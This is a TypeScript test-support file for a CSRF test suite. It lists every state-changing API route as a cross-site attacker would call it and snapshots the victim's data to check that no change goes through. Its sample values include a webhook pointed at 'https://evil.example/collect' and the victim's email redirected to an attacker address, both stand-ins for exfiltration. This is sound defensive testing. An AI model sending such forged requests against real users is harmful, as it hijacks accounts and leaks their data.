// The state-changing /api routes as a cross-site attacker would call them: each route's fields and,
// for uploads, its file; the encodings a page on another site can send; and the victim's state
// that any of them would change.
import { randomBytes } from 'node:crypto'
import Stripe from 'stripe'
import { expect } from 'vitest'
import { buildPdf } from '../../../packages/documents/src/test-documents.ts'
import { supportTriageCalculator, supportTriageInput } from '../../../services/proposal/src/testing/calculators.ts'
import { GOOD_PASSWORD, uniqueUsername } from '../../integration/support/http-client.ts'
import { tinyPng } from '../../integration/support/images.ts'
import type { TestStack } from '../../integration/support/stack.ts'
import { generationsCounted, table } from './actors.ts'
import { CSRF_HUBSPOT } from './csrf-hubspot.ts'
import { multipartBody } from './raw-http.ts'

export interface FilePart {
  name: string
  filename: string
  type: string
  data: Uint8Array
}

/** The victim's own things a route acts on (see pathWithIds). */
export interface VictimIds {
  calculatorId: string
  proposalId: string
  /** An open test-mode checkout of the victim's. */
  checkoutId: string
  /** A calculator template the victim saved. */
  templateId: string
  /** The beacon token of the victim's own opening of that proposal. */
  beaconToken: string
  /** Someone else's proposal the victim, as a prospect, may agree to (issue 20). */
  othersProposalId: string
  /** The victim's webhook endpoint and a delivery of it that failed (issue 39), for the webhook routes only. */
  webhook?: { endpointId: string; deliveryId: string }
}

export interface RouteCall {
  /** The request's fields (a new username each time for register). */
  fields: (ids: VictimIds) => Record<string, unknown>
  /** Uploads: the file part; the route's own encoding is then multipart, JSON otherwise. */
  file?: () => FilePart
  /** Raw uploads (a proposal's image): the body itself in the route's own encoding, with its content type. */
  raw?: () => { type: string; data: Uint8Array }
  /** Headers made from the encoded body (the payment provider's webhook signature). */
  signed?: (body: Buffer) => Record<string, string>
}

/** The webhook signing secret of the CSRF stacks (STRIPE_WEBHOOK_SECRET), so a control can sign like Stripe. */
export const CSRF_WEBHOOK_SECRET = 'whsec_csrf_suite_only_0123456789'

/** Signs like Stripe does, offline (no request is made with this client). */
const stripeWebhooks = new Stripe('sk_test_csrf_suite_signing_only').webhooks

const DESCRIPTION = 'Your team of 12 agents spends 15 hours per week each on ticket triage at $45 per hour.'

/** Every non-GET route of apiRoutes needs an entry: the suite checks that none is missing. */
export function routeCalls(login: { username: string }): Record<string, RouteCall> {
  const document = () => ({
    name: 'file',
    filename: 'proposal.pdf',
    type: 'application/pdf',
    data: buildPdf([{ lines: [DESCRIPTION] }]),
  })
  return {
    'POST /api/register': { fields: () => ({ username: uniqueUsername('csrf').toLowerCase(), password: GOOD_PASSWORD }) },
    // Login CSRF: signing the victim's browser into the attacker's account.
    'POST /api/login': { fields: () => ({ username: login.username, password: GOOD_PASSWORD }) },
    'POST /api/track/demo-interaction': { fields: () => ({}) },
    // Counting only, and only with the beacon token the proposal answered its opener: from another site, refused all the same.
    'POST /api/track/engagement': {
      fields: (ids) => ({
        proposalId: ids.proposalId,
        visitId: randomBytes(16).toString('base64url'),
        token: ids.beaconToken,
        events: [{ type: 'heartbeat', seq: 0, visibleMs: 10_000 }],
      }),
    },
    'POST /api/track/conversion': { fields: () => ({ event: 'CTA_CLICK' }) },
    'POST /api/logout': { fields: () => ({}) },
    'PATCH /api/profile': { fields: () => ({ companyName: 'CSRF was here' }) },
    // Issue 39: the victim's notifications redirected to the attacker's mailbox, or stopped. The
    // controls run in apiRoutes' order: the address set first is the one resent, then removed.
    'PUT /api/user/email': { fields: () => ({ email: 'attacker@evil.example' }) },
    'POST /api/user/email/resend': { fields: () => ({}) },
    'DELETE /api/user/email': { fields: () => ({}) },
    'PUT /api/user/language': { fields: () => ({ language: 'sv' }) },
    'POST /api/upload-logo': {
      fields: () => ({}),
      file: () => ({ name: 'logo', filename: 'logo.png', type: 'image/png', data: tinyPng() }),
    },
    'POST /api/calculator/analyze-document': {
      fields: () => ({ complexity: 'minimal', language: 'en', currency: 'USD' }),
      file: document,
    },
    'POST /api/calculator/analyze-document-for-value': { fields: () => ({ language: 'en', currency: 'USD' }), file: document },
    'POST /api/calculator/analyze-text': {
      fields: () => ({ description: DESCRIPTION, complexity: 'minimal', language: 'en', currency: 'USD' }),
    },
    'POST /api/calculator/generate-value': { fields: () => ({ description: DESCRIPTION, language: 'en', currency: 'USD' }) },
    'PATCH /api/calculators/:id': { fields: () => ({ values: { hoursPerWeek: 3 } }) },
    'DELETE /api/calculators/:id': { fields: () => ({}) },
    'POST /api/calculators/:id/regenerate': { fields: () => ({ complexity: 'balanced' }) },
    'POST /api/proposals': { fields: () => ({ title: 'Planted by CSRF', content: '', calculatorData: supportTriageCalculator }) },
    'POST /api/proposals/generate': {
      fields: () => ({ calculatorData: supportTriageCalculator, input: supportTriageInput, templateType: 'standard' }),
    },
    'PATCH /api/proposals/:id': { fields: () => ({ title: 'Renamed by CSRF' }) },
    'DELETE /api/proposals/:id': { fields: () => ({}) },
    'POST /api/proposals/:id/views': { fields: (ids) => ({ visitId: randomBytes(16).toString('base64url'), token: ids.beaconToken }) },
    'POST /api/proposals/:id/revoke': { fields: () => ({}) },
    'POST /api/proposals/:id/duplicate': { fields: () => ({}) },
    // Issue 20: the victim's browser agreeing, as a prospect, to someone else's proposal; and the
    // victim making the next version of their own proposal, which a prospect agreed to.
    'POST /api/proposals/:id/agreement': {
      fields: () => ({ name: 'Victim as a prospect', email: 'victim@buyer.example', scenario: 'expected', values: {} }),
    },
    'POST /api/proposals/:id/versions': { fields: () => ({}) },
    // Issue 34: narrowing who may agree to the attacker's address, and releasing the prospect's agreement.
    'PATCH /api/proposals/:id/agreement-rule': { fields: () => ({ whoMayAgree: 'listed', emails: ['attacker@evil.example'] }) },
    'POST /api/proposals/:id/agreement/release': { fields: () => ({}) },
    // Issue 37: the victim's draft overwritten, published, restored; an image planted; a section rewritten.
    'PUT /api/proposals/:id/draft': {
      fields: () => ({ document: { title: 'Drafted by CSRF', blocks: [{ id: 'calculator', type: 'calculator' }] }, revision: 0 }),
    },
    'POST /api/proposals/:id/publish': { fields: () => ({ revision: 0 }) },
    'POST /api/proposals/:id/publications/:number/restore': { fields: () => ({}) },
    'POST /api/proposals/:id/images': { fields: () => ({}), raw: () => ({ type: 'image/png', data: tinyPng() }) },
    'POST /api/proposals/:id/sections/:blockId/rewrite': { fields: () => ({}) },
    'POST /api/subscription/create': { fields: () => ({}) },
    'POST /api/subscription/upgrade-manual': { fields: () => ({}) },
    'POST /api/subscription/cancel': { fields: () => ({}) },
    // An event of a type billing records and ignores: the control shows a signed delivery is taken.
    'POST /api/billing/webhook': {
      fields: () => ({ id: `evt_csrf_${randomBytes(8).toString('hex')}`, object: 'event', type: 'customer.created', data: { object: {} } }),
      signed: (body) => ({
        'stripe-signature': stripeWebhooks.generateTestHeaderString({ payload: body.toString('utf8'), secret: CSRF_WEBHOOK_SECRET }),
      }),
    },
    'POST /api/billing/test-checkout/:id/pay': { fields: () => ({}) },
    'POST /api/billing/test-checkout/:id/cancel': { fields: () => ({}) },
    'POST /api/billing/test-mode/end-period': { fields: () => ({}) },
    'POST /api/calculator-templates': { fields: (ids) => ({ calculatorId: ids.calculatorId, name: 'Planted by CSRF' }) },
    'DELETE /api/calculator-templates/:id': { fields: () => ({}) },
    'POST /api/calculator-templates/:id/use': { fields: () => ({}) },
    // Issue 39: the victim's e-mails about their proposals, stopped.
    'PUT /api/notifications/settings': { fields: () => ({ agreed: false }) },
    // Issue 39: the victim's proposals' moves sent to the attacker's server, or the victim's endpoint removed or poked.
    'POST /api/notifications/webhooks': { fields: () => ({ url: 'https://evil.example/collect', events: ['proposal.agreed'] }) },
    'DELETE /api/notifications/webhooks/:id': { fields: () => ({}) },
    'POST /api/notifications/webhooks/:id/deliveries/:deliveryId/resend': { fields: () => ({}) },
    // Issue 39: the victim's proposals' moves noted in the attacker's HubSpot account or on the
    // attacker's deal, or the victim's connection and links removed.
    'PUT /api/notifications/hubspot': { fields: () => ({ accessToken: CSRF_HUBSPOT.attacker.token }) },
    'DELETE /api/notifications/hubspot': { fields: () => ({}) },
    'PUT /api/notifications/hubspot/links/:proposalId': { fields: () => ({ dealId: CSRF_HUBSPOT.attacker.dealId }) },
    'DELETE /api/notifications/hubspot/links/:proposalId': { fields: () => ({}) },
  }
}

/**
 * A route's path with its `:id` filled in: each route acts on a thing of the victim's own, made for
 * it once (so the control, which really changes or deletes it, has one to act on).
 */
export function pathWithIds(routePath: string, ids: VictimIds): string {
  if (routePath === '/api/proposals/:id/agreement') return routePath.replace(':id', ids.othersProposalId)
  if (routePath.startsWith('/api/calculators/')) return routePath.replace(':id', ids.calculatorId)
  if (routePath.startsWith('/api/proposals/'))
    return routePath.replace(':id', ids.proposalId).replace(':number', '1').replace(':blockId', 'executiveSummary')
  if (routePath.startsWith('/api/billing/test-checkout/')) return routePath.replace(':id', ids.checkoutId)
  if (routePath.startsWith('/api/calculator-templates/')) return routePath.replace(':id', ids.templateId)
  if (routePath.startsWith('/api/notifications/hubspot/links/')) return routePath.replace(':proposalId', ids.proposalId)
  if (routePath.startsWith('/api/notifications/webhooks/'))
    return routePath.replace(':id', ids.webhook?.endpointId ?? '').replace(':deliveryId', ids.webhook?.deliveryId ?? '')
  return routePath
}

export type Encoding = 'own' | 'text/plain' | 'urlencoded' | 'multipart' | 'none'

function asText(value: unknown): string {
  return typeof value === 'string' ? value : JSON.stringify(value)
}

/** The body and its content type: the route's own encoding, or one a cross-site page can send. */
export function encode(call: RouteCall, encoding: Encoding, ids: VictimIds): { body?: Buffer; contentType?: string } {
  const raw = encoding === 'own' ? call.raw?.() : undefined
  if (raw) return { body: Buffer.from(raw.data), contentType: raw.type }
  const fields = call.fields(ids)
  const file = call.file?.()
  const chosen = encoding === 'own' ? (file ? 'multipart' : 'json') : encoding
  switch (chosen) {
    case 'none':
      return {}
    case 'json':
      return { body: Buffer.from(JSON.stringify(fields)), contentType: 'application/json' }
    case 'text/plain':
      return { body: Buffer.from(JSON.stringify(fields)), contentType: 'text/plain;charset=UTF-8' }
    case 'urlencoded': {
      const params = new URLSearchParams(Object.entries(fields).map(([name, value]) => [name, asText(value)]))
      return { body: Buffer.from(params.toString()), contentType: 'application/x-www-form-urlencoded' }
    }
    case 'multipart':
      return multipartBody([...Object.entries(fields).map(([name, value]) => ({ name, value: asText(value) })), ...(file ? [file] : [])])
  }
}

/**
 * The victim's webhook endpoint (on loopback: the sender never connects) and a delivery of it that
 * already failed, written as the sender leaves one, so only a resend changes it.
 */
export async function victimWebhook(
  stack: TestStack,
  asVictim: (path: string, json: unknown) => Promise<{ status: number; text: string }>,
): Promise<{ endpointId: string; deliveryId: string }> {
  const created = await asVictim('/api/notifications/webhooks', {
    url: 'https://127.0.0.1/victim-hook',
    events: ['proposal.pdf_downloaded'],
  })
  expect(created.status, created.text).toBe(201)
  const endpointId = (JSON.parse(created.text) as { id: string }).id
  const deliveryId = `wd_csrf-${randomBytes(8).toString('hex')}`
  await stack.databases.notification.execute(
    `INSERT INTO ${table(stack, 'notification', 'webhook_delivery')} (id, endpoint_id, event_id, event_type, data, occurred_at, status, attempts)
     VALUES ($1, $2, $3, 'proposal.pdf_downloaded', '{}', now(), 'failed', 1)`,
    deliveryId,
    endpointId,
    `evt_${deliveryId}`,
  )
  return { endpointId, deliveryId }
}

/** What any state-changing route could alter for the victim (and, for register, anyone). */
export async function victimState(stack: TestStack, victim: { id: number }): Promise<Record<string, unknown>> {
  const count = async (service: 'identity' | 'proposal' | 'billing', sql: string, ...values: unknown[]) => {
    const rows = await stack.databases[service].query<Array<{ n: number | bigint }>>(sql, ...values)
    return Number(rows[0]?.n ?? 0)
  }
  const profile = await stack.databases.identity.query<Array<{ company_name: string | null; company_logo: string | null }>>(
    `SELECT company_name, company_logo, email, email_token_hash, language FROM ${table(stack, 'identity', '"user"')} WHERE id = $1`,
    victim.id,
  )
  expect(profile).toHaveLength(1)
  return {
    users: await count('identity', `SELECT count(*) AS n FROM ${table(stack, 'identity', '"user"')}`),
    demoInteractions: Number(
      (
        await stack.databases.analytics.query<Array<{ n: bigint | number | null }>>(
          `SELECT sum(count) AS n FROM ${table(stack, 'analytics', 'daily_demo_interactions')}`,
        )
      )[0]?.n ?? 0,
    ),
    profile: profile[0],
    logos: await count('identity', `SELECT count(*) AS n FROM ${table(stack, 'identity', 'logo')} WHERE user_id = $1`, victim.id),
    proposals: await stack.databases.proposal.query(
      `SELECT id, title, expires_at, revoked_at, who_may_agree, agreement_emails, draft_revision, document FROM ${table(stack, 'proposal', 'proposal')} WHERE user_id = $1 ORDER BY id`,
      victim.id,
    ),
    // The agreements anyone made (the victim's browser may be a prospect of another's proposal).
    agreements: await count('proposal', `SELECT count(*) AS n FROM ${table(stack, 'proposal', 'agreement')}`),
    calculators: await stack.databases.calculator.query(
      `SELECT id, values, complexity, updated_at FROM ${table(stack, 'calculator', 'saved_calculator')} WHERE user_id = $1 ORDER BY id`,
      victim.id,
    ),
    generations: await generationsCounted(stack, victim.id),
    templates: await stack.databases.calculator.query(
      `SELECT id, name FROM ${table(stack, 'calculator', 'calculator_template')} WHERE user_id = $1 ORDER BY id`,
      victim.id,
    ),
    subscriber: await stack.databases.billing.query(
      `SELECT checkout_session_id, subscription_id, status, cancel_at_period_end, current_period_end, version
       FROM ${table(stack, 'billing', 'subscriber')} WHERE user_id = $1`,
      victim.id,
    ),
    checkouts: await stack.databases.billing.query(
      `SELECT id, status, payment_status FROM ${table(stack, 'billing', 'test_checkout_session')} WHERE user_id = $1 ORDER BY id`,
      victim.id,
    ),
    webhookEvents: await count('billing', `SELECT count(*) AS n FROM ${table(stack, 'billing', 'webhook_event')}`),
    // The victim's own views of their proposals (recorded, never counted) and the CTA clicks counted.
    viewEvents: await count(
      'proposal',
      `SELECT count(*) AS n FROM ${table(stack, 'proposal', 'outbox_event')} WHERE subject = 'proposal.proposal.viewed'`,
    ),
    // The victim's webhook endpoints, and whether a failed delivery was sent again.
    webhooks: await stack.databases.notification.query(
      `SELECT id, url, events, enabled FROM ${table(stack, 'notification', 'webhook_endpoint')} WHERE user_id = $1 ORDER BY id`,
      victim.id,
    ),
    webhookDeliveries: await stack.databases.notification.query(
      `SELECT d.id, d.status FROM ${table(stack, 'notification', 'webhook_delivery')} d
        JOIN ${table(stack, 'notification', 'webhook_endpoint')} e ON e.id = d.endpoint_id WHERE e.user_id = $1 ORDER BY d.id`,
      victim.id,
    ),
    // The victim's HubSpot connection (which account, since when, revoked or not; never the token) and its links.
    hubspotConnection: await stack.databases.notification.query(
      `SELECT portal_id, connected_at, revoked_at FROM ${table(stack, 'notification', 'hubspot_connection')} WHERE user_id = $1`,
      victim.id,
    ),
    hubspotLinks: await stack.databases.notification.query(
      `SELECT proposal_id, deal_id, linked_at FROM ${table(stack, 'notification', 'hubspot_link')} WHERE user_id = $1 ORDER BY proposal_id`,
      victim.id,
    ),
    // Which e-mails the victim gets (no row until their first change: every kind on).
    notificationSettings: await stack.databases.notification.query(
      `SELECT first_open, later_opens, agreed, pdf_downloaded, weekly_digest FROM ${table(stack, 'notification', 'seller')} WHERE user_id = $1`,
      victim.id,
    ),
    ctaClicks: Number(
      (
        await stack.databases.analytics.query<Array<{ n: bigint | number | null }>>(
          `SELECT sum(count) AS n FROM ${table(stack, 'analytics', 'daily_count')} WHERE metric = 'cta_click'`,
        )
      )[0]?.n ?? 0,
    ),
  }
}
